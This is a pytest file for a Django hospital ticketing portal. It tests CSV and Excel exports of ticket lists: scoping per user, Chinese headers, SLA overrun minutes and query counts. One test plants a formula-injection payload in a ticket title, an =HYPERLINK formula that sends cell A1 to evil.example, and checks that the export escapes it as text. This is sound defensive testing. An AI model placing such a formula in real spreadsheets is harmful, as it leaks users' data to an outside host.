"""Ticket lists taken into Excel from the portal: the rows of the list as filtered, in the
reader's language, safe to open."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from openpyxl import load_workbook

from contracts.models import CoveredSystem
from tests.conftest import login
from tests.factories import demo_user
from tests.tickets.conftest import at, file_ticket
from tickets import exports, services
from tickets.errors import TicketError
from tickets.models import Ticket

pytestmark = pytest.mark.django_db

NOW = "2026-09-15 10:00 +08:00"
BOM = "\ufeff"
NUMBER, SYSTEM, TITLE, STATE = 0, 3, 6, 7
REPORTED_BY, REPORTED_AT, ACKNOWLEDGED_AT, NEXT_DEADLINE, BREACHED = 8, 10, 11, 15, 16


@pytest.fixture
def portal(demo):
    with time_machine.travel(NOW, tick=True):
        yield


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith(BOM), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def read_xlsx(response) -> list[list]:
    assert response.status_code == 200, response
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def numbers(rows: list[list]) -> set[str]:
    return {row[NUMBER] for row in rows[1:]}


def zh_headers() -> list[str]:
    with translation.override("zh-hans"):
        return exports.headers()


def assign(ticket: Ticket, engineer: str) -> Ticket:
    return services.assign(
        ticket=ticket, by=demo_user("ny-dispatcher"), engineer=demo_user(engineer)
    )


def test_my_queue_exports_only_the_engineers_own_tickets(portal, demo):
    mine = assign(file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00"), "ny-engineer")
    theirs = assign(file_ticket(demo["yn-his"], "level-2", "2026-09-15 09:10"), "ny-engineer2")
    waiting = file_ticket(demo["yn-his"], "level-3", "2026-09-15 09:20")
    engineer = login("ny-engineer")

    only_mine = read_csv(engineer.get("/queue/export/?mine=1&format=csv"))
    whole_queue = read_xlsx(engineer.get("/queue/export/?format=xlsx"))

    assert numbers(only_mine) == {mine.number}
    assert numbers(whole_queue) == {mine.number, theirs.number, waiting.number}


def test_the_hospital_list_exports_in_chinese_with_real_excel_dates(portal, demo):
    title = "门诊收费系统无法登录"
    ticket = file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00", title=title)
    file_ticket(demo["zj-einvoice"], "level-1", "2026-09-15 09:05", title="湛江的工单")

    rows = read_xlsx(login("yn-it").get("/tickets/export/?format=xlsx"))

    assert rows[0] == zh_headers()
    assert rows[0][:2] == ["工单编号", "医院"]
    assert numbers(rows) == {ticket.number}, "another hospital's tickets never appear"
    row = rows[1]
    assert row[1] == "郁南县人民医院"
    assert row[TITLE] == title
    assert row[STATE] == "待受理"
    # Beijing wall-clock time, as Excel holds dates: no time zone.
    assert row[REPORTED_AT] == dt.datetime(2026, 9, 15, 9, 0)
    assert isinstance(row[NEXT_DEADLINE], dt.datetime)


def test_the_workbook_has_a_bold_frozen_header_and_wide_title_column(portal, demo):
    file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
    response = login("yn-it").get("/tickets/export/?format=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["G"].width >= 30  # the title
    assert sheet.cell(row=2, column=REPORTED_AT + 1).number_format == "yyyy-mm-dd hh:mm"


def test_the_csv_keeps_chinese_text_and_writes_beijing_times(portal, demo):
    title = "住院医生站：无法开医嘱"
    ticket = file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00", title=title)
    rows = read_csv(login("yn-it").get("/tickets/export/?format=csv"))
    assert rows[0] == zh_headers()
    assert rows[1][NUMBER] == ticket.number
    assert rows[1][TITLE] == title
    assert rows[1][REPORTED_AT] == "2026-09-15 09:00"
    assert rows[1][ACKNOWLEDGED_AT] == ""


def test_a_person_who_reads_english_gets_english_headers(portal, demo):
    file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
    user = demo_user("yn-it")
    user.language = "en"
    user.save(update_fields=["language"])
    rows = read_csv(login("yn-it").get("/tickets/export/"))  # CSV by default
    assert rows[0][:3] == ["Number", "Hospital", "Contract code"]
    assert rows[1][STATE] == "New"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_title_that_is_a_formula_comes_out_as_text(portal, demo, fmt):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
    file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00", title=formula)
    file_ticket(demo["yn-his"], "level-2", "2026-09-15 09:01", title="-1+1")
    file_ticket(demo["yn-his"], "level-3", "2026-09-15 09:02", title="@SUM(A1)")
    response = login("yn-it").get(f"/tickets/export/?format={fmt}")
    rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
    titles = {row[TITLE] for row in rows[1:]}
    assert titles == {"'" + formula, "'-1+1", "'@SUM(A1)"}


def test_the_finished_tab_exports_only_finished_tickets(portal, demo):
    open_one = file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
    cancelled = file_ticket(demo["yn-his"], "level-2", "2026-09-15 09:05")
    services.cancel(ticket=cancelled, by=demo_user("yn-reporter"), note="误报")
    hospital_it = login("yn-it")
    assert numbers(read_csv(hospital_it.get("/tickets/export/?show=finished"))) == {
        cancelled.number
    }
    assert numbers(read_csv(hospital_it.get("/tickets/export/?show=open"))) == {open_one.number}
    assert numbers(read_csv(hospital_it.get("/tickets/export/?show=all"))) == {
        open_one.number,
        cancelled.number,
    }


def test_a_reporter_exports_only_the_tickets_they_filed(portal, demo):
    own = file_ticket(demo["zj-einvoice"], "level-1", "2026-09-15 09:00")
    services.report_ticket(
        contract=demo["zj-einvoice"],
        system=demo["zj-einvoice"].systems.first(),
        service_class=demo["zj-einvoice"].service_classes.get(code="level-2"),
        title="信息科报的工单",
        description="打印机无法打印票据。",
        reporter=demo_user("zj-it"),
        contact_phone="13726380001",
    )
    assert numbers(read_csv(login("zj-reporter").get("/tickets/export/"))) == {own.number}


def test_the_dispatch_export_holds_the_boards_tickets(portal, demo):
    waiting = file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
    assigned_on_time = assign(
        file_ticket(demo["yn-his"], "level-4", "2026-09-15 09:50"), "ny-engineer"
    )
    rows = read_csv(login("ny-dispatcher").get("/dispatch/export/?format=csv"))
    assert waiting.number in numbers(rows)
    assert assigned_on_time.number not in numbers(rows)


def test_a_late_response_is_named_among_the_breached_clocks(demo):
    with time_machine.travel("2026-09-18 10:00 +08:00", tick=False):
        ticket = file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
        services.acknowledge(
            note="已联系院方，承诺处理方案。",
            ticket=ticket,
            by=demo_user("ny-engineer"),
            now=at("2026-09-17 09:00"),
        )
        rows = read_csv(login("yn-it").get("/tickets/export/"))
    assert rows[1][ACKNOWLEDGED_AT] == "2026-09-17 09:00"
    assert "响应" in rows[1][BREACHED]


def test_the_system_is_written_as_its_whole_path(demo):
    module = CoveredSystem.objects.filter(hospital=demo["cd-nutrition"].hospital, tier=3).first()
    contract = demo["cd-nutrition"]
    with time_machine.travel(NOW, tick=True):
        services.report_ticket(
            contract=contract,
            system=module,
            service_class=contract.service_classes.get(code="level-1"),
            title="营养筛查无法保存",
            description="保存时报错。",
            reporter=demo_user("cd-reporter"),
            contact_phone="13726380001",
        )
        rows = read_xlsx(login("cd-it").get("/tickets/export/?format=xlsx"))
    assert rows[1][SYSTEM] == module.path()
    assert rows[1][SYSTEM].count(" / ") == 2


@pytest.mark.parametrize(
    ("url", "fmt"),
    [
        ("/queue/export/", "csv"),
        ("/queue/export/?mine=1", "xlsx"),
        ("/dispatch/export/", "xlsx"),
        ("/tickets/export/", "csv"),
    ],
)
def test_an_export_makes_the_same_number_of_queries_for_3_or_30_tickets(portal, demo, url, fmt):
    username = "ny-engineer" if url.startswith("/queue/") else "ny-dispatcher"
    username = "yn-it" if url.startswith("/tickets/") else username
    client = login(username)
    separator = "&" if "?" in url else "?"

    def count() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = client.get(f"{url}{separator}format={fmt}")
            assert response.status_code == 200
            b"".join(response.streaming_content)
        return len(captured.captured_queries)

    def file(n: int) -> None:
        for _ in range(n):
            ticket = file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
            assign(ticket, "ny-engineer")

    file(3)
    few = count()
    file(27)
    many = count()
    assert many == few, f"{few} queries for 3 tickets, {many} for 30"
    assert few <= 12  # two more prefetches: the clocks in force and the resolutions


def test_the_export_links_carry_the_lists_filters_but_not_its_page(portal, demo):
    file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
    queue = login("ny-engineer").get("/queue/?mine=1&cursor=abc").content.decode()
    assert 'href="/queue/export/?mine=1&amp;format=csv"' in queue
    assert 'href="/queue/export/?mine=1&amp;format=xlsx"' in queue
    assert "导出 CSV" in queue or "Export CSV" in queue
    hospital_list = login("yn-it").get("/tickets/?show=finished").content.decode()
    assert 'href="/tickets/export/?show=finished&amp;format=xlsx"' in hospital_list
    board = login("ny-dispatcher").get("/dispatch/").content.decode()
    assert 'href="/dispatch/export/?format=csv"' in board


def test_a_list_too_long_to_export_sends_the_user_back_with_a_message(portal, demo, monkeypatch):
    monkeypatch.setattr(exports, "MAX_ROWS", 2)
    for minute in range(3):
        file_ticket(demo["yn-his"], "level-1", f"2026-09-15 09:0{minute}")
    response = login("yn-it").get("/tickets/export/?show=all&format=xlsx", follow=True)
    assert response.redirect_chain == [("/tickets/?show=all", 302)]
    with translation.override("zh-hans"):
        message = TicketError("too_many_rows", exports.TOO_MANY_ROWS, limit="2")
        assert str(message) in response.content.decode()


def test_an_unknown_format_is_a_400(portal):
    assert login("yn-it").get("/tickets/export/?format=pdf").status_code == 400


@pytest.mark.parametrize("url", ["/queue/export/", "/dispatch/export/", "/tickets/export/"])
def test_exports_need_a_signed_in_person(demo, url):
    response = Client().get(f"{url}?format=csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/") or "login" in response["Location"]


def test_the_hospital_list_exports_all_its_tickets_unless_told_which(portal, demo):
    open_one = file_ticket(demo["yn-his"], "level-1", "2026-09-15 09:00")
    cancelled = file_ticket(demo["yn-his"], "level-2", "2026-09-15 09:05")
    services.cancel(ticket=cancelled, by=demo_user("yn-reporter"), note="误报")
    # The page opens on the open tickets; its export without `show` is the whole list.
    assert numbers(read_csv(login("yn-it").get("/tickets/export/"))) == {
        open_one.number,
        cancelled.number,
    }


def test_each_clock_is_exported_with_its_due_and_met_times_and_overrun_in_its_own_calendar(
    demo,
):
    # yn-his level 3: respond within 2 working hours (08:30–17:30), arrive within 1 working day.
    with time_machine.travel("2026-09-17 10:00 +08:00", tick=False):
        ticket = file_ticket(demo["yn-his"], "level-3", "2026-09-15 15:00")
        engineer = demo_user("ny-engineer")
        services.acknowledge(
            note="已联系院方，承诺处理方案。",
            ticket=ticket,
            by=engineer,
            now=at("2026-09-15 22:32"),
        )
        services.arrive(ticket=ticket, by=engineer, now=at("2026-09-16 09:00"))
        services.resolve(
            ticket=ticket,
            by=engineer,
            note="重启接口服务并清理队列",
            cause="interface",
            now=at("2026-09-16 10:00"),
        )
        response = login("yn-it").get("/tickets/export/?format=xlsx")
    body = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:AG2"
    header, row = ([cell.value for cell in line] for line in sheet.iter_rows())
    values = dict(zip(header, row, strict=True))
    assert values["响应时限"] == dt.datetime(2026, 9, 15, 17, 0)
    assert values["实际响应"] == dt.datetime(2026, 9, 15, 22, 32)
    # Due 17:00, answered 22:32: 30 working minutes late (17:00–17:30), not 332.
    assert values["响应超时（分钟）"] == 30
    assert values["实际到场"] == dt.datetime(2026, 9, 16, 9, 0)
    assert values["到场超时（分钟）"] is None  # on time
    assert values["解决时限"] is None  # level 3 has no resolve clock
    assert values["原因"] == "接口问题" and values["解决说明"] == "重启接口服务并清理队列"


def test_a_report_typed_in_for_the_hospital_exports_its_channel_caller_and_who_entered_it_when(
    demo,
):
    contract = demo["yn-his"]
    with time_machine.travel("2026-09-15 10:00 +08:00", tick=False):
        services.file_for_caller(
            contract=contract,
            system=contract.systems.first(),
            service_class=contract.service_classes.get(code="level-1"),
            title="门诊挂号无法打开",
            description="门诊挂号窗口全部白屏。",
            caller=services.Caller(name="门诊部 王护士长", phone="13726389999"),
            entered_by=demo_user("ny-dispatcher"),
            channel="phone",
            reported_at=at("2026-09-15 09:40"),
        )
        client = login("yn-it")
        csv_rows = read_csv(client.get("/tickets/export/"))
        xlsx_rows = read_xlsx(client.get("/tickets/export/?format=xlsx"))
    assert csv_rows[0][-4:] == ["报修渠道", "来电人", "录入人", "录入时间"]
    assert csv_rows[1][REPORTED_AT] == "2026-09-15 09:40"
    # Hospital IT follows it; the caller had no account.
    assert csv_rows[1][REPORTED_BY] == "李明（院方跟进人）"
    assert csv_rows[1][-4:] == ["电话", "门诊部 王护士长", "孙敏", "2026-09-15 10:00"]
    assert xlsx_rows[1][-4:] == ["电话", "门诊部 王护士长", "孙敏", dt.datetime(2026, 9, 15, 10, 0)]
